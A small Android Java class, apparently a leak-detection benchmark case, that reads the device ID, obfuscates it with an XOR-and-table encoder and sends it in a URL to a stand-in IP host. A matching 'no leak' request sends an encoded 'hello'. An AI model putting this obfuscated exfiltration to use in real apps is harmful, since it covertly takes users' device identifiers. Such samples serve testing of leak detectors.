package habits;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.net.URL;

/** An encoder of its own: xor, then a table of letters. */
public class XorTable extends Activity {
    private static final char[] TABLE = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_".toCharArray();
    private static final byte[] KEY = {7, 42, 99};

    static String hide(String text) {
        byte[] bytes = text.getBytes();
        for (int n = 0; n < bytes.length; n++) bytes[n] ^= KEY[n % KEY.length];
        char[] out = new char[bytes.length * 2];
        for (int n = 0; n < bytes.length; n++) {
            out[n * 2] = TABLE[(bytes[n] >> 4) & 0xf];
            out[n * 2 + 1] = TABLE[bytes[n] & 0xf];
        }
        return new String(out);
    }

    @Override
    protected void onCreate(Bundle state) {
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        String secret = hide(phone.getDeviceId());
        String plain = hide("hello");
        try {
            new URL("http://203.0.113.3/" + secret).openStream(); // leak
            new URL("http://203.0.113.3/" + plain).openStream(); // no leak
        } catch (Exception ignored) {
        }
    }
}
